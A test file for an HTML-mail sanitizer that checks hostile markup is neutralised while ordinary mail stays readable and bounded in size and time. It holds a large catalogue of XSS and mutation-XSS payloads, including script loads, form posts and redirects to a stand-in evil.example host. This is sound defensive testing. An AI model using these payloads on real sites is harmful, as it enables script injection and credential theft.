// Hostile HTML mail made safe (ML-16): every class of attack, mail that has to stay readable, and work that grows with the
// length alone. What comes out is also looked at by a second reader, the tokenizer with other rules than the library's.
import { Tokenizer } from 'htmlparser2'
import { describe, expect, it } from 'vitest'
import { htmlToText, safeHtml } from '../../src/mail/html/safe-html.ts'
import { decodeEntities } from '../../src/mail/html/safe-html-entities.ts'
import { safeStyle } from '../../src/mail/html/safe-html-style.ts'

const withoutPictures = (html: string): string => safeHtml(html, { pictures: 'none' }).html
const withPictures = (html: string): string => safeHtml(html, { pictures: 'remote' }).html

/** Tags and attribute names of `html`, as they stand. */
function markupOf(html: string): string[] {
  const names: string[] = []
  const ignore = (): void => undefined
  const tokenizer = new Tokenizer(
    { decodeEntities: false },
    {
      onopentagname: (start, end) => names.push(html.slice(start, end)),
      onattribname: (start, end) => names.push(`@${html.slice(start, end)}`),
      oncomment: () => names.push('comment'),
      oncdata: () => names.push('cdata'),
      ondeclaration: () => names.push('declaration'),
      onprocessinginstruction: () => names.push('instruction'),
      ontext: ignore,
      onclosetag: ignore,
      onattribdata: ignore,
      onattribentity: ignore,
      onattribend: ignore,
      onend: ignore,
      onopentagend: ignore,
      onselfclosingtag: ignore,
      ontextentity: ignore,
    },
  )
  tokenizer.write(html)
  tokenizer.end()
  return names
}

const forbiddenMarkup =
  /^(?:script|style|svg|math|iframe|object|embed|applet|form|input|button|textarea|select|meta|base|link|template|noscript|title|plaintext|xmp|video|audio|body|html|head|comment|cdata|declaration|instruction|@on.*|@srcset|@background|@action|@formaction|@id|@class|@name|@srcdoc|@xlink:href|@http-equiv|@ping)$/i

const hostile: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>a</p><script>alert(1)</script>'],
  ['a script in capitals with a slash', '<SCRIPT/src=//evil.example/x.js></SCRIPT >'],
  ['a script split by a script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script that is never closed', 'a<script>alert(1)'],
  ['a tag that is never closed', '<img src=x onerror=alert(1)//'],
  ['handlers', '<img src=x onerror=alert(1)><p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p><body onload=alert(1)>'],
  ['a handler behind a slash', '<img/src="x"/onerror=alert(1)>'],
  ['a handler behind a quote', '<p title="a"onclick="alert(1)">x</p>'],
  ['a handler in an attribute that closes', "<p title='\"><img src=x onerror=alert(1)>'>x</p>"],
  ['javascript:', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: in mixed case with blanks', '<a href=" \n JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: with a tab', '<a href="java\tscript:alert(1)">x</a><a href="java&#9;script:alert(1)">x</a>'],
  ['javascript: with named blanks', '<a href="java&Tab;script&colon;alert&lpar;1&rpar;">x</a>'],
  [
    'javascript: in numbers without semicolons',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
  ],
  ['javascript: in padded numbers', '<a href="&#x000006a;avascript&#x0000003A;alert(1)">x</a>'],
  ['javascript: behind controls', '<a href="\u0001javascript:alert(1)">x</a><a href="&#1;javascript:alert(1)">x</a>'],
  ['javascript: with NUL', '<a href="java\0script:alert(1)">x</a><scr\0ipt>alert(1)</scr\0ipt>'],
  ['javascript: in full-width letters', '<a href="ｊavascript:alert(1)">x</a>'],
  [
    'vbscript:, data: and blob:',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a><a href="blob:https://a/b">x</a>',
  ],
  [
    'a picture that is a page',
    '<img src="data:text/html;base64,PHNjcmlwdD4="><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="javascript:alert(1)">',
  ],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg with a style that closes', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  [
    'math and mtext',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'math, annotation-xml and a form',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  [
    'a title, a text area, an xmp',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title><textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea><xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  ],
  [
    'escaped markup in raw text',
    '<xmp>&lt;script&gt;alert(1)&lt;/script&gt;</xmp><option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  ],
  ['a template', '<template><img src=x onerror=alert(1)></template><template><script>alert(1)</script>'],
  ['plaintext', '<plaintext><script>alert(1)</script>'],
  [
    'comments',
    '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> --><!--[if IE]><script>alert(1)</script><![endif]-->',
  ],
  [
    'CDATA, declarations, instructions',
    '<![CDATA[<img src=x onerror=alert(1)>]]><!DOCTYPE html [<!ENTITY x "y">]><?xml-stylesheet href="javascript:alert(1)"?>',
  ],
  [
    'frames',
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><frameset><frame src=x></frameset>',
  ],
  ['objects', '<object data="x.swf"><embed src="x.swf"><param name=a value=b></object><applet code=x></applet>'],
  [
    'meta, base and link',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
  ],
  [
    'forms',
    '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button><select><option>x</select></form>',
  ],
  [
    'a style sheet',
    '<style>@import "https://evil.example/x.css"; p { background: url(https://evil.example/x) }</style><p>x</p>',
  ],
  ['ids, names and classes that shadow', '<a id="cookie" name="body" class="modal">x</a><img name="getElementById">'],
  [
    'attributes of the prototype',
    '<p __proto__="x" constructor="y" onclick=alert(1)>x</p><a hasOwnProperty href="javascript:alert(1)">x</a>',
  ],
  [
    'a quote of the other kind and a back quote',
    '<img alt="``onerror=alert(1)" src=`x`><p title=`"><script>alert(1)</script>`>x</p>',
  ],
  [
    'UTF-7 and odd spaces',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img\u00a0src=x\u3000onerror=alert(1)><img\fsrc=x\fonerror=alert(1)>',
  ],
  [
    'SMIL and details',
    '<details open ontoggle=alert(1)><summary>x</summary></details><svg><animate onbegin=alert(1) attributeName=x></svg>',
  ],
]

const readable: readonly (readonly [name: string, html: string])[] = [
  [
    'a newsletter of tables',
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><head><title>News</title><style>@media only screen { .c { width: 100% } }</style></head><body bgcolor="#f4f4f4" style="margin:0;padding:0"><!--[if mso]><table><tr><td><![endif]--><table role="presentation" width="600" cellpadding="0" cellspacing="0" border="0" align="center" class="c"><tr><td align="center" valign="top" bgcolor="#ffffff" style="padding:20px;font-family:Arial, \'Helvetica Neue\', sans-serif;font-size:14px;line-height:1.5;color:#333333;mso-line-height-rule:exactly"><h1 style="margin:0 0 10px">Spring sale</h1><p>20&nbsp;% off, caf&eacute; &amp; bar&hellip;</p><a href="https://shop.example/?utm_source=mail&amp;id=7" style="background-color:#0a7;color:#fff;display:inline-block;padding:10px 20px">See it</a></td></tr></table></body></html>',
  ],
  [
    'a reply of Gmail',
    '<div dir="ltr">Yes &lt;3<br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, Ada &lt;<a href="mailto:ada@mail.example">ada@mail.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Tea?</blockquote></div></div>',
  ],
  [
    'old hands',
    '<FONT COLOR=red FACE="Comic Sans MS" SIZE=+2>Hi<P>there<CENTER><B>you</CENTER><UL><LI>a<LI>b</UL><HR NOSHADE>1 < 2 & 3 > 2 &copy 2026',
  ],
  [
    'lists, code and ruby',
    '<ol start="3" type="a"><li value="5">x</li></ol><pre>a\n  b</pre><code>if (a &lt; b)</code><q>x</q><sub>2</sub><details><summary>s</summary>t</details>',
  ],
]

describe('ML-16 hostile HTML', () => {
  it('is seen by the second reader where it is', () => {
    expect(markupOf('<svg onload=x><!-- --><p id="a">')).toEqual(['svg', '@onload', 'comment', 'p', '@id'])
  })

  it.each(hostile)('%s comes out harmless, and stays so', (_, html) => {
    for (const safe of [withoutPictures(html), withPictures(html)]) {
      expect(markupOf(safe).filter((name) => forbiddenMarkup.test(name))).toEqual([])
      expect(safe).not.toMatch(/(?:href|src)="(?!https?:|mailto:|tel:|data:image\/(?:png|jpeg|gif|webp);base64,)/i)
    }
    expect(withoutPictures(withoutPictures(html))).toBe(withoutPictures(html))
    expect(withPictures(withPictures(html))).toBe(withPictures(html))
  })

  it('of all attacks that SECURITY.md names, one after the other and none of them closed, the mail after them stays', () => {
    const attacks = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<a href="javascript:alert(1)">x',
      '<svg onload=alert(1)>',
      '<svg><style><img src=x onerror=alert(1)></style>',
      '<meta http-equiv=refresh content="0;url=https://evil.example">',
      '<base href="https://evil.example/">',
      '<form action="https://evil.example"><input name=password><button>',
      '<style>@import url(https://evil.example/x.css);</style>',
      '<p style="background:url(https://evil.example/x)">',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
      '<object data="data:text/html,x"><embed src="x.swf"><applet code=x>',
      '<video poster="https://evil.example/x"><audio src=x><canvas><select><option>',
    ]
    for (const html of [...attacks, attacks.join('')]) {
      const safe = withPictures(`<p>before</p>${html}<p>The <b>marker</b></p>`)
      expect([html, safe]).toEqual([html, expect.stringMatching(/<p>before<\/p>.*<p>The <b>marker<\/b><\/p>/s)])
      expect(markupOf(safe).filter((name) => forbiddenMarkup.test(name))).toEqual([])
      expect(safe).not.toMatch(/(?:href|src)="|url\(|evil\.example/)
      expect(withPictures(safe)).toBe(safe)
      expect(htmlToText(safe)).toContain('The marker')
    }
  })

  it.each([
    ['<svg><title>t</title><text>drawn</text></svg> after', 'drawn after'],
    ['<math><mi>x</mi><mo>=</mo><mn>1</mn></math> after', 'x=1 after'],
    ['<object data="x">instead</object> after', 'instead after'],
    ['<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg> after', '&lt;img src=x onerror=alert(1)&gt; after'],
    ['<template>never shown</template><noembed>nor this</noembed> after', ' after'],
  ])('of %s the words stay', (html, safe) => {
    expect(withoutPictures(html)).toBe(safe)
  })

  it('the same holds for every pair of attacks, one inside the other', () => {
    const broken = hostile.flatMap(([outer, a]) =>
      hostile.flatMap(([inner, b]) => {
        const html = `${a.slice(0, Math.ceil(a.length / 2))}${b}${a.slice(Math.ceil(a.length / 2))}`
        const safe = withPictures(html)
        const isHarmless = !markupOf(safe).some((name) => forbiddenMarkup.test(name))
        return isHarmless && withPictures(safe) === safe ? [] : [`${outer}, ${inner}`]
      }),
    )
    expect(broken).toEqual([])
  })

  it('what is checked is what is written: an unknown reference is text, for the browser too', () => {
    expect(withoutPictures('<a href="https://a.example/?x=&amp;#106;&nosuch;">x</a>')).toContain(
      'href="https://a.example/?x=&amp;#106;&amp;nosuch;"',
    )
  })

  it('text that was escaped stays text', () => {
    const text = '<p>&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;</p>'
    expect(withoutPictures(text)).toBe(text)
    expect(withoutPictures('a &amp;lt;b&amp;gt;')).toBe('a &amp;lt;b&amp;gt;')
  })
})

describe('links', () => {
  it('open a window of their own that knows nothing of ours', () => {
    expect(withoutPictures('<a href="https://a.example/" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://a.example/" rel="noopener noreferrer nofollow" target="_blank">x</a>',
    )
  })

  it.each([
    ['mailto:ada@mail.example?subject=x', 'mailto:ada@mail.example?subject=x'],
    ['tel:+41123', 'tel:+41123'],
    ['//a.example/x', 'https://a.example/x'],
    ['https://bank.example@evil.example/', 'https://evil.example/'],
    ['HTTPS://A.example/ä', 'https://a.example/%C3%A4'],
  ])('%s becomes %s', (written, href) => {
    expect(withoutPictures(`<a href="${written}">x</a>`)).toContain(`href="${href}"`)
  })

  it.each(['/settings', '#top', 'settings', 'ftp://a.example/', 'cid:1', `https://a.example/${'x'.repeat(9_000)}`])(
    'lead nowhere: %.20s',
    (written) => {
      expect(withoutPictures(`<a href="${written}">x</a>`)).toBe('<a>x</a>')
    },
  )
})

describe('pictures', () => {
  const picture =
    '<img src="http://a.example/x.png" srcset="https://a.example/y.png 2x" alt="A &quot;hat&quot;" width="20" height="10">'

  it('are left out until they are asked for, with their size and words', () => {
    expect(safeHtml(picture, { pictures: 'none' })).toEqual({
      html: '<img alt="A &quot;hat&quot;" width="20" height="10" />',
      hasRemotePictures: true,
    })
  })

  it('come over https: only, when they are', () => {
    expect(withPictures(picture)).toContain('src="https://a.example/x.png"')
    expect(withPictures('<img src="//a.example/x.png">')).toBe('<img src="https://a.example/x.png" />')
    expect(withPictures('<image src="https://a.example/x.png">')).toBe('<img src="https://a.example/x.png" />')
  })

  it.each([
    '<p background="https://a.example/x.png" style="background-image:url(https://a.example/y.png)">x</p>',
    '<img src="cid:part1@mail.example">',
    '<img src="/logo.png">',
    '<picture><source srcset="https://a.example/x.png"></picture><video poster="https://a.example/x.png"></video>',
    '<input type="image" src="https://a.example/x.png"><link rel="prefetch" href="https://a.example/x.png">',
  ])('come from no other place: %.40s', (html) => {
    const { html: safe, hasRemotePictures } = safeHtml(html, { pictures: 'remote' })
    expect(safe).not.toMatch(/a\.example|cid:|logo/)
    expect(hasRemotePictures).toBe(false)
  })

  it('that travel in the mail itself are shown at once', () => {
    expect(safeHtml('<img src="data:image/PNG;base64,iVBO\n Rw0=">', { pictures: 'none' })).toEqual({
      html: '<img src="data:image/png;base64,iVBORw0=" />',
      hasRemotePictures: false,
    })
  })
})

describe('styles', () => {
  it('keep what gives a mail its looks', () => {
    const style =
      "margin:0 auto;color:#333;width:calc(100% - 20px);font-family:Arial, 'Foo';border:1px solid rgb(1,2,3)"
    expect(safeStyle(style)).toBe(style)
    expect(safeStyle('COLOR : red ! important ; text-align:\n center')).toBe('color:red !important;text-align:center')
  })

  it.each([
    'position:fixed',
    'position:absolute',
    'z-index:9',
    'transform:scale(9)',
    'content:"x"',
    'behavior:url(x.htc)',
    '-moz-binding:url(x.xml)',
    'background:url(https://a.example/x)',
    'background:u\\72l(https://a.example/x)',
    'background:ur/**/l(https://a.example/x)',
    'background:image-set("https://a.example/x" 1x)',
    'width:expression(alert(1))',
    'color:var(--x)',
    '--x:red',
    'font-family:"a',
    'width:calc(1px',
    'color:red}body{color:blue',
    '@import "x"',
    'list-style:url (x)',
    'color:</style><script>',
  ])('leave out %s', (style) => {
    expect(safeStyle(style)).toBe('')
    expect(safeStyle(`color:red;${style}`)).toBe('color:red')
  })

  it('come decoded before they are looked at', () => {
    expect(withoutPictures('<p style="background:u&#114;l(&quot;https://a.example&quot;);color:red">x</p>')).toBe(
      '<p style="color:red">x</p>',
    )
  })
})

describe('mail that is meant well', () => {
  it.each(readable)('%s stays stable', (_, html) => {
    expect(withoutPictures(withoutPictures(html))).toBe(withoutPictures(html))
    expect(htmlToText(withoutPictures(html))).toBe(htmlToText(html))
  })

  it('keeps its tables, colours and links', () => {
    const safe = withoutPictures(readable[0]?.[1] ?? '')
    expect(safe).toContain('<div bgcolor="#f4f4f4" style="margin:0;padding:0">')
    expect(safe).toContain('<table width="600" cellpadding="0" cellspacing="0" border="0" align="center">')
    expect(safe).toContain(
      'style="padding:20px;font-family:Arial, \'Helvetica Neue\', sans-serif;font-size:14px;line-height:1.5;color:#333333"',
    )
    expect(safe).toContain('href="https://shop.example/?utm_source=mail&amp;id=7"')
    expect(safe).not.toContain('News')
  })
})

describe('text of HTML', () => {
  it('reads as the mail does', () => {
    expect(htmlToText(readable[0]?.[1] ?? '')).toBe(
      'Spring sale\n\n20 % off, café & bar…\n\nSee it'.replace('0 %', '0\u00a0%'),
    )
    expect(htmlToText(readable[1]?.[1] ?? '')).toBe('Yes <3\nOn Mon, Ada <ada@mail.example> wrote:\n\nTea?')
    expect(htmlToText(readable[2]?.[1] ?? '')).toBe('Hi\n\nthere\n\nyou\n\n- a\n- b\n\n1 < 2 & 3 > 2 © 2026')
    expect(htmlToText('<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>')).toBe('a b\nc')
  })

  it('leaves out what is no text, and the fillers of newsletters', () => {
    expect(
      htmlToText('<title>t</title><style>p{}</style>a<script>if (a<b) x()</script><!-- c --><textarea>d</textarea>'),
    ).toBe('a')
    expect(htmlToText('Sale&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847; <p>x')).toBe('Sale\n\nx')
  })

  it('is bounded', () => {
    expect(htmlToText('word '.repeat(300_000)).length).toBeLessThanOrEqual(500_000)
  })

  it.each([
    ['&amp;lt;', '&lt;'],
    ['&copy=1&copy2&copy', '&copy=1&copy2©'],
    ['&#150;&#x80;', '–€'],
    ['&#0;&#xD800;&#x110000;&#99999999999;', '\ufffd\ufffd\ufffd\ufffd'],
    ['&nosuch;&;&#;&#x;', '&nosuch;&;&#;&#x;'],
  ])('%s is %s', (written, text) => {
    expect(decodeEntities(written)).toBe(text)
  })
})

describe('size', () => {
  it('what is nested beyond all reason is shown as text', () => {
    const { html } = safeHtml(`${'<div>'.repeat(50_000)}<b>deep</b> &lt;i&gt;<img src="https://a.example/x.png">`, {
      pictures: 'remote',
    })
    expect(html).toBe('deep &lt;i&gt;')
  })

  it('what is nested too deep to be drawn keeps its text', () => {
    const safe = withoutPictures(`${'<div>'.repeat(600)}deep${'</div>'.repeat(600)}`)
    expect(safe.match(/<div>/g)).toHaveLength(250)
    expect(htmlToText(safe)).toBe('deep')
  })

  // Work that grew with the square of the length would take minutes, and the test's time would end it.
  it.each([
    ['unclosed tags', '<b><i><table><tr><td>'],
    ['closing tags without their opening', '</b></i></p>'],
    ['opening brackets', '<'],
    ['ampersands', '&'],
    ['comments that begin', '<!--'],
    ['attributes', '<a b=c '],
    ['entities', '&lt;&#128;'],
    ['blanks and fillers', ' \n\u200b\u00a0'],
    ['foreign elements', '<svg><foreignObject>'],
    ['pairs, 900 deep', `${'<b>'.repeat(900)}${'</b>'.repeat(900)}`],
    ['blanks in styles', `<p style="color:a${' '.repeat(3_900)}b">`],
    ['words in styles', `<p style="color:${'a'.repeat(3_900)}">`],
  ])('100 kB of %s are done with, and stable', (_, piece) => {
    const html = piece.repeat(Math.ceil(100_000 / piece.length))
    const safe = withPictures(html)
    expect(safe.length).toBeLessThanOrEqual(html.length * 5)
    expect(withPictures(safe)).toBe(safe)
    expect(htmlToText(html).length).toBeLessThanOrEqual(500_000)
  })

  it.each([
    ['blanks', (many: number) => `color:a${' '.repeat(many)}b`],
    ['marks', (many: number) => `color:a${' !'.repeat(many / 2)}`],
    ['words', (many: number) => `color:${'a'.repeat(many)}`],
    ['brackets', (many: number) => `color:${'rgb('.repeat(many / 8)}${')'.repeat(many / 8)}`],
  ])('a style of %s takes as long as it is long', (_, style) => {
    const seconds = (many: number): number => {
      const text = style(many)
      const begun = performance.now()
      for (let read = 0; read < 1_500_000 / many; read += 1) safeStyle(text)
      return performance.now() - begun
    }
    seconds(400)
    // As many characters in longer styles: with the square of the length it would be nine times as much. The best of
    // three, since the machine does other things as well.
    const best = (many: number): number => Math.min(...[1, 2, 3].map(() => seconds(many)))
    expect(best(3_600)).toBeLessThan(best(400) * 3 + 50)
  })

  it('what is longer than half a million characters is cut', () => {
    const html = withoutPictures(`${'word '.repeat(100_000)}<b>after</b>`)
    expect([html.length, html.includes('after')]).toEqual([500_000, false])
  })

  it.each([
    ['one attribute', (filler: string) => `<p title="${filler}">x</p>`, 'x'],
    ['one style', (filler: string) => `<p style="${filler}:b;">x</p>`, '; '],
    ['one link', (filler: string) => `<a href="https://a.example/${filler}">x</a>`, '<!---->'],
    ['one tag', (filler: string) => `<a ${filler}>x</a>`, 'a=b '],
  ])('a megabyte in %s is cut or left out', (_, around, filler) => {
    expect(withoutPictures(around(filler.repeat(Math.ceil(1_000_000 / filler.length)))).length).toBeLessThan(1_100)
  })
})
